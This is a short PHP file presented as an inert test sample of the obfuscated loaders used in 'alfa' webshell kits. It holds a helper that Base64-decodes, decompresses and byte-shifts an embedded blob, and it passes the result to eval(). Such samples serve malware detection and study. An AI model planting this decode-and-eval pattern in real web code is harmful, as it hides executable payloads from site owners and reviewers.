<?php
/* Loader shape of the 2024-2025 "alfa" kits: the payload is compressed, Base64-encoded and every
   byte shifted; a helper undoes the three and the result is evaluated. Inert test sample. */
function ux_restore($blob)
{
    $blob = gzuncompress(base64_decode($blob));
    for ($p = 0; $p < strlen($blob); $p++) {
        $blob[$p] = chr(ord($blob[$p]) + 2);
    }
    return $blob;
}
eval(ux_restore("eNpLT1GTT87OKypXU4r18w0MilTNV41WV69MTkzLlVO1yitItlHVSSvKzirMS05Mj89KTIsvKFQrTEvOyopNLktORNWmo2qlC9ZiWQ0AGAYckA=="));
